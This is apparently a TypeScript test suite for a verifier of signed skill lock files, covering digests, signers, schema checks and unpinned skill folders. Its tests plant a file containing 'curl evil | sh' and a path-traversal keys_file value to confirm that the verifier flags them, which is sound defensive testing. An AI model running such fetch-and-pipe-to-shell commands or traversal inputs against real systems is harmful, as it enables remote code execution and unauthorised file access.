// verify-pins on a provenact-skills lock: the checks of its verify_pins.sh, and the ones it
// misses. The repository is built with keys generated in the test (test/helpers/provenact.ts).
import assert from 'node:assert/strict';
import { mkdir, readFile, rm, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { after, beforeEach, describe, it } from 'node:test';
import { jcsDigest, sha256 } from '../../../src/core/digest/index.js';
import { openLock, verifyLock } from '../../../src/core/pins/index.js';
import { signDigest, type SecretKey } from '../../../src/core/sign/index.js';
import { removeDir } from '../../helpers/project.js';
import { provenactRepo, WASM, writeBundle, writeLock, type Repo } from '../../helpers/provenact.js';

async function codes(repo: Repo, minSigners?: number): Promise<string[]> {
  const opened = await openLock(join(repo.root, 'pins', 'skills.lock.json'), minSigners !== undefined ? { minSigners } : {});
  const ds = opened.context === undefined ? opened.diagnostics : (await verifyLock(opened.context)).diagnostics;
  return [...new Set(ds.filter((d) => d.severity === 'error').map((d) => d.code))].sort();
}

describe('provenact lock format', () => {
  let repo: Repo;
  let entries: Record<string, unknown>[];
  beforeEach(async () => {
    ({ repo, entries } = await provenactRepo());
  });
  const roots: string[] = [];
  after(async () => Promise.all(roots.map(removeDir)));
  const done = (): void => void roots.push(repo.root);

  it('a consistent repository verifies (MIN_SIGNERS 2)', async () => {
    done();
    assert.deepEqual(await codes(repo), []);
  });

  it('script checks: artifact, manifest_hash, keys digest, signer set, signer count', async () => {
    done();
    const dir = join(repo.root, 'skills', 'echo.minimal', '0.1.0');
    await writeFile(join(dir, 'skill.wasm'), Buffer.from('0061736d01000001', 'hex'));
    assert.ok((await codes(repo)).includes('PIN_MODIFIED'));
    await writeFile(join(dir, 'skill.wasm'), WASM);
    await writeFile(join(dir, 'public-keys.json'), (await readFile(join(dir, 'public-keys.json'), 'utf8')) + ' ');
    assert.deepEqual(await codes(repo), ['KEYS_DIGEST_MISMATCH']);
    entries[0] = await writeBundle(repo, 'echo.minimal', '0.1.0', ['alice.dev']);
    assert.deepEqual(await codes(repo), ['PIN_MODIFIED', 'SIGNATURE_MISSING', 'TOO_FEW_SIGNERS']);
    assert.deepEqual(await codes(repo, 1), ['PIN_MODIFIED', 'SIGNATURE_MISSING']);
    await writeLock(repo, entries);
    assert.deepEqual(await codes(repo), ['TOO_FEW_SIGNERS']);
    assert.deepEqual(await codes(repo, 1), []);
  });

  it('keys_file must be a plain file name (path traversal): LOCK_INVALID', async () => {
    done();
    await writeLock(repo, [{ ...entries[0], keys_file: '../../../pins/keys.json' }]);
    assert.deepEqual(await codes(repo), ['LOCK_INVALID']);
  });

  it('gaps of verify_pins.sh: bundle_dir, identity, duplicates, unpinned, extra files, bundle-meta', async () => {
    done();
    await writeLock(repo, [entries[0], entries[0]]);
    assert.deepEqual(await codes(repo), ['PIN_DUPLICATE', 'PIN_UNPINNED']);
    await writeLock(repo, [{ ...entries[0], bundle_dir: 'skills/fs.read_text/0.1.0' }, entries[1]]);
    assert.ok((await codes(repo)).includes('PIN_SOURCE_INVALID'));
    await writeLock(repo, [{ ...entries[0], version: '0.1.1' }, entries[1]]);
    assert.ok((await codes(repo)).includes('PIN_IDENTITY_MISMATCH'));
    await writeLock(repo, entries);
    const dir = join(repo.root, 'skills', 'echo.minimal', '0.1.0');
    await writeFile(join(dir, 'payload.sh'), 'curl evil | sh');
    assert.deepEqual(await codes(repo), ['PIN_EXTRA_FILE']);
    await rm(join(dir, 'payload.sh'));
    await writeFile(join(dir, 'bundle-meta.json'), JSON.stringify({ artifact: sha256('x'), manifest_hash: sha256('y'), schema_version: '1.0.0' }));
    assert.deepEqual(await codes(repo), ['PROVENACT_BUNDLE_INVALID']);
  });

  // A provenact lock names no skill roots; before, no skill folder or pack was looked for, so a
  // project whose lock was (re)written in provenact's format hid every skill an agent loads.
  it('skill folders under the default skill roots and packs: PIN_UNPINNED (a provenact lock cannot pin them)', async () => {
    done();
    const put = async (rel: string, text: string): Promise<void> => {
      await mkdir(join(repo.root, dirname(rel)), { recursive: true });
      await writeFile(join(repo.root, rel), text);
    };
    await put('.claude/skills/evil/SKILL.md', '---\nname: evil\ndescription: x\n---\n');
    await put('manifests/hello/skill.yaml', 'name: hello\n');
    await put('skills/notes/SKILL.md', '---\nname: notes\ndescription: x\n---\n');
    await put('manifests/packs/p.yaml', 'profile: p\n');
    const opened = await openLock(join(repo.root, 'pins', 'skills.lock.json'));
    assert.ok(opened.context !== undefined);
    const r = await verifyLock(opened.context);
    assert.deepEqual(
      r.diagnostics.filter((d) => d.severity === 'error').map((d) => [d.code, d.file]),
      [
        ['PIN_UNPINNED', '.claude/skills/evil'],
        ['PIN_UNPINNED', 'manifests/hello'],
        ['PIN_UNPINNED', 'manifests/packs/p.yaml'],
        ['PIN_UNPINNED', 'skills/notes'],
      ],
    );
    // The pinned provenact bundles under skills/ are no skill folders.
    assert.deepEqual(r.unpinned, ['.claude/skills/evil', 'manifests/hello', 'manifests/packs/p.yaml', 'skills/notes']);
  });

  it('a signer not declared in manifest.signers: SIGNER_UNEXPECTED', async () => {
    done();
    entries[0] = await writeBundle(repo, 'echo.minimal', '0.1.0', ['alice.dev', 'codex.release']);
    const dir = join(repo.root, 'skills', 'echo.minimal', '0.1.0');
    const m = JSON.parse(await readFile(join(dir, 'manifest.json'), 'utf8')) as { signers: string[] };
    m.signers = ['alice.dev'];
    const hash = jcsDigest(m);
    await writeFile(join(dir, 'manifest.json'), JSON.stringify(m));
    const sigs = JSON.parse(await readFile(join(dir, 'signatures.json'), 'utf8')) as { manifest_hash: string; signatures: { signer: string; signature: string }[] };
    sigs.manifest_hash = hash;
    for (const s of sigs.signatures) s.signature = signDigest(repo.keys[s.signer] as SecretKey, hash);
    await writeFile(join(dir, 'signatures.json'), JSON.stringify(sigs));
    await writeFile(join(dir, 'bundle-meta.json'), JSON.stringify({ artifact: sha256(WASM), manifest_hash: hash, schema_version: '1.0.0' }));
    await writeLock(repo, [{ ...entries[0], manifest_hash: hash }, entries[1]]);
    assert.deepEqual(await codes(repo), ['SIGNER_UNEXPECTED']);
  });

  it('schema_version and generated_at are checked: LOCK_INVALID', async () => {
    done();
    await writeLock(repo, entries, { schema_version: '2.0.0' });
    assert.deepEqual(await codes(repo), ['LOCK_INVALID']);
    await writeLock(repo, entries, { generated_at: 'yesterday' });
    assert.deepEqual(await codes(repo), ['LOCK_INVALID']);
  });
});
